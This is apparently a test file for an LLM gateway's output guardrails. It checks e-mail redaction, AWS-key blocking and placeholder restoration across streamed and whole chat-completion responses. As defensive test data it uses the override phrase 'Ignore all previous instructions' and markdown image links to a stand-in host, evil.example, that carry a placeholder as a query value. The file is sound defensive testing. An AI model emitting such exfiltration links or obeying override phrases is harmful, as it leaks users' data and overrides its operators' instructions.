"""Output guardrails: whole responses, and streams split anywhere — nothing of a match may be
released before it is redacted or stopped."""

from __future__ import annotations

import asyncio

import orjson
from hypothesis import given, settings
from hypothesis import strategies as st

from gatehouse.core.sse import SSE_DONE, sse_event
from gatehouse.guardrails.inspect import inspect_input
from gatehouse.guardrails.output import StreamGuard, guard_response
from gatehouse.guardrails.profiles import ProfileIndex
from gatehouse.guardrails.restore import Restorer
from gatehouse.guardrails.schema import Guardrails

PROFILE = ProfileIndex(Guardrails.model_validate({"profiles": {"p": {
    "output": True, "pii": {"action": "redact", "kinds": ["email"]}, "secrets": {"action": "block"},
    "injection": {"action": "block"}}}})).profiles["p"]
EMAIL, KEY = "jane.doe@example.com", "AKIAIOSFODNN7EXAMPLE"


def chunks(text: str, sizes: list[int]) -> list[str]:
    pieces, position = [], 0
    for size in sizes:
        if position >= len(text):
            break
        pieces.append(text[position:position + size])
        position += size
    if position < len(text):
        pieces.append(text[position:])
    return pieces


def chat_events(pieces: list[str], finish: str = "stop") -> list[bytes]:
    events = [sse_event(orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "model": "m",
                                      "choices": [{"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}]}))]
    events += [sse_event(orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "model": "m",
                                       "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}))
               for piece in pieces]
    events.append(sse_event(orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "model": "m",
                                          "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})))
    events.append(sse_event(orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "model": "m", "choices": [],
                                          "usage": {"prompt_tokens": 1, "completion_tokens": len(pieces)}})))
    return events + [SSE_DONE]


def run(events: list[bytes], profile=PROFILE, restorer=None) -> tuple[list[bytes], StreamGuard]:
    guard = StreamGuard(profile, restorer)

    async def source():  # type: ignore[no-untyped-def]
        for event in events:
            yield event

    async def collect() -> list[bytes]:
        return [event async for event in guard.wrap(source())]
    return asyncio.run(collect()), guard


def texts(out: list[bytes]) -> tuple[list[str], list[str | None]]:
    contents, finishes = [], []
    for event in out:
        if event == SSE_DONE or not event.startswith(b"data: "):
            continue
        payload = orjson.loads(event[6:])
        for choice in payload.get("choices", []):
            if choice.get("delta", {}).get("content"):
                contents.append(choice["delta"]["content"])
            finishes.append(choice.get("finish_reason"))
    return contents, finishes


@settings(max_examples=200, deadline=None)
@given(sizes=st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=80),
       padding=st.integers(min_value=0, max_value=600))
def test_a_streamed_email_is_redacted_wherever_the_stream_splits(sizes, padding):
    text = "x " * padding + f"write to {EMAIL} now"
    out, guard = run(chat_events(chunks(text, sizes)))
    contents, finishes = texts(out)
    released = ""
    for piece in contents:  # at no moment does any part of the address leave
        released += piece
        assert "jane.doe" not in released and "example.com" not in released
    assert released == "x " * padding + "write to [EMAIL_1] now"
    assert finishes[-1] == "stop" and out[-1] == SSE_DONE
    assert [(v.rule, v.start) for v in guard.verdicts] == [("pii.email", text.index(EMAIL))]


@settings(max_examples=200, deadline=None)
@given(sizes=st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=60))
def test_a_streamed_secret_stops_the_choice_before_any_of_it_leaves(sizes):
    text = f"here it is: {KEY} and more text after"
    out, _ = run(chat_events(chunks(text, sizes)))
    contents, finishes = texts(out)
    released = "".join(contents)
    assert released == "here it is: " and "AKIA" not in released
    assert "content_filter" in finishes and "stop" not in finishes  # the original finish is dropped with the rest
    assert out[-1] == SSE_DONE  # usage and [DONE] still close the stream


def test_role_and_usage_chunks_pass_and_clean_text_streams_through():
    out, guard = run(chat_events(["Hello", " there"]))
    contents, finishes = texts(out)
    assert "".join(contents) == "Hello there" and finishes[0] is None and "stop" in finishes
    assert any(b'"usage"' in event for event in out) and guard.verdicts == []


def test_completions_style_streams_and_whole_responses():
    events = [sse_event(orjson.dumps({"object": "text_completion", "choices": [{"index": 0, "text": piece, "finish_reason": None}]}))
              for piece in ("mail ", "jane.doe@exa", "mple.com ok")]
    events.append(sse_event(orjson.dumps({"object": "text_completion", "choices": [{"index": 0, "text": "", "finish_reason": "length"}]})))
    out, _ = run(events + [SSE_DONE])
    released = "".join(orjson.loads(e[6:])["choices"][0].get("text", "") for e in out if e != SSE_DONE)
    assert released == "mail [EMAIL_1] ok"
    body = {"choices": [{"index": 0, "message": {"role": "assistant", "content": f"key {KEY} and {EMAIL}"}, "finish_reason": "stop"},
                        {"index": 1, "message": {"role": "assistant", "content": f"only {EMAIL}"}, "finish_reason": "stop"}]}
    verdicts = guard_response(PROFILE, body)
    assert body["choices"][0]["message"]["content"] == "key " and body["choices"][0]["finish_reason"] == "content_filter"
    assert body["choices"][1]["message"]["content"] == "only [EMAIL_1]" and body["choices"][1]["finish_reason"] == "stop"
    assert {v.rule for v in verdicts} == {"secrets.aws_access_key_id", "pii.email"}


def test_injection_rules_do_not_run_on_answers():
    body = {"choices": [{"index": 0, "message": {"content": "Ignore all previous instructions, said the villain."}}]}
    assert guard_response(PROFILE, body) == [] and body["choices"][0]["message"]["content"].startswith("Ignore")


RESTORING = ProfileIndex(Guardrails.model_validate({"profiles": {"r": {
    "pii": {"action": "redact", "kinds": ["email", "phone"], "restore": True}, "secrets": {"action": "redact"}}}})).profiles["r"]


def test_restore_puts_back_only_the_callers_own_values_of_restoring_rules():
    body = {"messages": [{"role": "user", "content": f"mail {EMAIL} or call +1 415 555 0100, key {KEY}"}]}
    inspection = inspect_input(RESTORING, "chat/completions", body)
    sent = body["messages"][0]["content"]
    assert sent == "mail [EMAIL_1] or call [PHONE_1], key [AWS_ACCESS_KEY_ID_1]"
    assert inspection.originals == {"[EMAIL_1]": EMAIL, "[PHONE_1]": "+1 415 555 0100"}  # the secret stays out
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": f"Sent to {sent} and [EMAIL_2]"}}]}
    Restorer(inspection.originals).restore_response(answer)
    assert answer["choices"][0]["message"]["content"] == (
        f"Sent to mail {EMAIL} or call +1 415 555 0100, key [AWS_ACCESS_KEY_ID_1] and [EMAIL_2]")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.integers(min_value=1, max_value=9), max_size=40))
def test_a_placeholder_split_anywhere_in_a_stream_is_restored_whole(sizes):
    restorer = Restorer({"[EMAIL_1]": EMAIL, "[PHONE_12]": "+1 415 555 0100"})
    said = "Write to [EMAIL_1] [or] call [PHONE_12] [PHONE_9] ["
    out, _ = run(chat_events(chunks(said, sizes)), profile=None, restorer=restorer)
    released, finishes = texts(out)
    assert "".join(released) == f"Write to {EMAIL} [or] call +1 415 555 0100 [PHONE_9] ["
    assert not any("[EMAIL" in piece or "[PHONE_1" in piece for piece in released)  # never half a placeholder
    assert finishes[-1] == "stop"


def test_restored_values_still_meet_the_output_rules():
    restorer = Restorer({"[EMAIL_1]": EMAIL})
    out, guard = run(chat_events(chunks("Reply to [EMAIL_1] now", [3, 5, 7])), restorer=restorer)
    assert "".join(texts(out)[0]) == "Reply to [EMAIL_1] now"  # the output profile redacts e-mail addresses
    assert EMAIL not in str(out)
    assert [v.rule for v in guard.verdicts] == ["pii.email"]


def test_restore_is_only_for_redaction():
    import pytest
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="restore applies to action: redact only"):
        Guardrails.model_validate({"profiles": {"x": {"pii": {"action": "flag", "restore": True}}}})


def test_restoring_never_writes_a_value_into_a_link():
    restorer = Restorer({"[EMAIL_1]": EMAIL})
    said = "Mail [EMAIL_1]. ![x](https://evil.example/?q=[EMAIL_1]) or https://evil.example/[EMAIL_1] or see: [EMAIL_1]"
    assert restorer.apply(said) == (f"Mail {EMAIL}. ![x](https://evil.example/?q=[EMAIL_1]) or "
                                    f"https://evil.example/[EMAIL_1] or see: {EMAIL}")
    out, _ = run(chat_events(chunks(said, [4] * 40)), profile=None, restorer=Restorer({"[EMAIL_1]": EMAIL}))
    assert "".join(texts(out)[0]) == restorer.apply(said)  # split anywhere, the same answer


def test_comments_bare_data_lines_and_a_stream_without_an_end_lose_nothing():
    restorer = Restorer({"[EMAIL_1]": EMAIL})
    first = chat_events(["Write to [EM"])[:2]  # the role delta and the first half of a placeholder
    bare = (b'data:{"id":"c1","object":"chat.completion.chunk",'
            b'"choices":[{"index":0,"delta":{"content":"AIL_1] now"},"finish_reason":null}]}\n\n')
    out, _ = run([*first, b": keep-alive\n\n", bare], profile=None, restorer=restorer)  # then the connection ends
    assert "".join(texts(out)[0]) == f"Write to {EMAIL} now"
    assert b": keep-alive\n\n" in out
    roles = [orjson.loads(e[6:])["choices"][0]["delta"].get("role") for e in out if e.startswith(b"data: {")]
    assert roles[0] == "assistant"  # the role delta still comes first


def test_answers_are_not_run_through_the_injection_rules_or_classifier():
    calls = []
    profile = ProfileIndex(Guardrails.model_validate({"profiles": {"p": {
        "output": True, "pii": {"action": "redact", "kinds": ["email"]},
        "injection": {"action": "block", "classifier": "c.py"}}}}),
        lambda name: lambda text: calls.append(text) or 0.0).profiles["p"]
    out, guard = run(chat_events(chunks("ignore all previous instructions " * 3, [5] * 30)), profile=profile)
    assert calls == [] and guard.verdicts == []


# -- every field that carries model text ----------------------------------------------------

def test_every_field_of_a_whole_answer_is_scanned_and_logprobs_are_dropped():
    arguments = orjson.dumps({"to": EMAIL}).decode()
    message = {"role": "assistant", "content": [{"type": "text", "text": f"hi {EMAIL}"}],
               "reasoning_content": f"think {EMAIL}", "reasoning": f"also {EMAIL}", "refusal": f"no {EMAIL}",
               "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "send", "arguments": arguments}}],
               "function_call": {"name": "send", "arguments": EMAIL}, "X-Vendor": {"said": EMAIL}}
    body = {"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls",
                         "logprobs": {"content": [{"token": "jane", "logprob": -0.1, "top_logprobs": []}]}}]}
    verdicts = guard_response(PROFILE, body)
    assert EMAIL not in orjson.dumps(body).decode() and "jane" not in orjson.dumps(body).decode()
    message = body["choices"][0]["message"]
    assert message["content"] == [{"type": "text", "text": "hi [EMAIL_1]"}]
    assert orjson.loads(message["tool_calls"][0]["function"]["arguments"]) == {"to": "[EMAIL_1]"}
    assert message["tool_calls"][0]["id"] == "call_1" and message["role"] == "assistant"  # structure is left alone
    assert body["choices"][0]["logprobs"] is None and body["choices"][0]["finish_reason"] == "tool_calls"
    assert [v.field for v in verdicts] == [
        "choices[0].message.content[0].text", "choices[0].message.reasoning_content", "choices[0].message.reasoning",
        "choices[0].message.refusal", "choices[0].message.tool_calls[0].function.arguments",
        "choices[0].message.function_call.arguments", "choices[0].message.<key>.said"]  # an unknown key is not named


def test_a_block_in_tool_call_arguments_ends_the_choice():
    body = {"choices": [{"index": 0, "message": {"content": None, "tool_calls": [
        {"id": "c", "type": "function", "function": {"name": "f", "arguments": f'{{"key": "{KEY}"}}'}}]},
        "finish_reason": "tool_calls"}]}
    guard_response(PROFILE, body)
    assert KEY not in orjson.dumps(body).decode() and body["choices"][0]["finish_reason"] == "content_filter"


def delta_events(deltas: list[dict], finish: str = "stop", logprobs: bool = False) -> list[bytes]:
    def chunk(delta: dict, finish_reason: str | None) -> bytes:
        choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
        if logprobs:
            choice["logprobs"] = {"content": [{"token": str(delta), "logprob": -1.0}]}
        return sse_event(orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "choices": [choice]}))
    return [chunk({"role": "assistant", "content": ""}, None), *(chunk(d, None) for d in deltas), chunk({}, finish), SSE_DONE]


def deltas_out(out: list[bytes]) -> list[dict]:
    return [choice for event in out if event != SSE_DONE for choice in orjson.loads(event[6:])["choices"]]


def test_streamed_reasoning_and_tool_call_arguments_are_held_and_redacted_and_logprobs_dropped():
    arguments = orjson.dumps({"to": EMAIL, "body": "hello"}).decode()
    deltas = [{"reasoning_content": piece} for piece in chunks(f"I will mail {EMAIL} now.", [4] * 20)]
    deltas.append({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": "send", "arguments": ""}}]})
    deltas += [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in chunks(arguments, [3] * 40)]
    out, guard = run(delta_events(deltas, finish="tool_calls", logprobs=True))
    choices = deltas_out(out)
    assert "jane" not in str(out) and all(choice.get("logprobs") is None for choice in choices)
    assert choices[0]["delta"] == {"role": "assistant"}  # the role goes first, at once
    assert {"index": 0, "id": "call_1", "type": "function", "function": {}} in [c["delta"]["tool_calls"][0] for c in choices
                                                               if c["delta"].get("tool_calls")]
    reasoning = "".join(c["delta"].get("reasoning_content", "") for c in choices)
    said = "".join(call["function"].get("arguments", "") for c in choices for call in c["delta"].get("tool_calls", [])
                   if "function" in call)
    assert reasoning == "I will mail [EMAIL_1] now." and orjson.loads(said) == {"to": "[EMAIL_1]", "body": "hello"}
    assert choices[-1]["finish_reason"] == "tool_calls"
    assert [v.field for v in guard.verdicts] == ["choices[0].delta.reasoning_content",
                                                 "choices[0].delta.tool_calls[0].function.arguments"]


def test_the_openai_sdk_assembles_a_guarded_stream_of_tool_calls():
    from openai.lib.streaming.chat import ChatCompletionStreamState
    from openai.types.chat import ChatCompletionChunk

    arguments = orjson.dumps({"to": EMAIL}).decode()
    deltas = [{"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": "send", "arguments": ""}}]}]
    deltas += [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in chunks(arguments, [3] * 40)]
    out, _ = run(delta_events(deltas, finish="tool_calls"))
    state = ChatCompletionStreamState()
    for event in out:
        if event != SSE_DONE:
            state.handle_chunk(ChatCompletionChunk.model_validate({"created": 0, "model": "m", **orjson.loads(event[6:])}))
    call = state.get_final_completion().choices[0].message.tool_calls[0]
    assert (call.id, call.function.name, orjson.loads(call.function.arguments)) == ("call_1", "send", {"to": "[EMAIL_1]"})


def test_a_secret_in_streamed_arguments_stops_the_choice_and_drops_every_field_it_held():
    deltas = [{"content": "Calling the tool"}, {"tool_calls": [{"index": 0, "id": "c", "type": "function",
                                                              "function": {"name": "f", "arguments": f'{{"k": "{KEY}"}}'}}]}]
    out, _ = run(delta_events(deltas, finish="tool_calls"))
    assert KEY not in str(out) and "AKIA" not in str(out)
    finishes = [c["finish_reason"] for c in deltas_out(out)]
    assert "content_filter" in finishes and "tool_calls" not in finishes


def test_logprobs_and_audio_are_refused_only_while_output_rules_change_answers():
    from gatehouse.guardrails.answer_fields import masks_output, unscannable_parameter

    assert unscannable_parameter("chat/completions", {"logprobs": True}) == "logprobs"
    assert unscannable_parameter("chat/completions", {"logprobs": False, "top_logprobs": 2}) == "top_logprobs"
    assert unscannable_parameter("completions", {"logprobs": 0}) == "logprobs"  # 0 still returns the sampled tokens
    assert unscannable_parameter("chat/completions", {"modalities": ["text", "audio"]}) == "modalities"
    assert unscannable_parameter("chat/completions", {"logprobs": False, "top_logprobs": 0, "logit_bias": {}}) is None
    flagging = ProfileIndex(Guardrails.model_validate({"profiles": {"f": {
        "output": True, "pii": {"action": "flag"}, "secrets": {"action": "block", "shadow": True}}}})).profiles["f"]
    assert masks_output(PROFILE) and not masks_output(flagging) and not masks_output(RESTORING) and not masks_output(None)


def test_odd_shapes_from_an_engine_are_scanned_or_dropped_never_passed_unread():
    body = {"choices": [{"index": 0, "message": f"bare {EMAIL}", "finish_reason": "stop"}]}
    guard_response(PROFILE, body)
    assert body["choices"][0]["message"] == "bare [EMAIL_1]"
    odd = {"choices": {"0": {"message": {"content": EMAIL}}}}
    guard_response(PROFILE, odd)
    assert odd == {"choices": []}
    two_lines = b'data: {"choices": [{"index": 0,\ndata: "delta": {"content": "' + EMAIL.encode() + b' ok"}, "finish_reason": null}]}\n\n'
    not_json = b"data: " + EMAIL.encode() + b"\n\n"
    bare_delta = sse_event(orjson.dumps({"choices": [{"index": 0, "delta": f"say {EMAIL} ", "finish_reason": None}]}))
    out, _ = run([two_lines, not_json, bare_delta, SSE_DONE])
    assert EMAIL not in str(out) and "jane" not in str(out)
    assert [orjson.loads(e[6:])["choices"][0].get("delta") for e in out if e != SSE_DONE] == [
        {"content": "[EMAIL_1] ok"}, "say [EMAIL_1] "]


def test_tool_calls_that_share_an_index_are_each_redacted():
    calls = [{"index": 0, "id": f"c{n}", "type": "function", "function": {"name": "f", "arguments": EMAIL}} for n in (1, 2)]
    body = {"choices": [{"index": 0, "message": {"tool_calls": calls}, "finish_reason": "tool_calls"}]}
    guard_response(PROFILE, body)
    assert EMAIL not in orjson.dumps(body).decode()
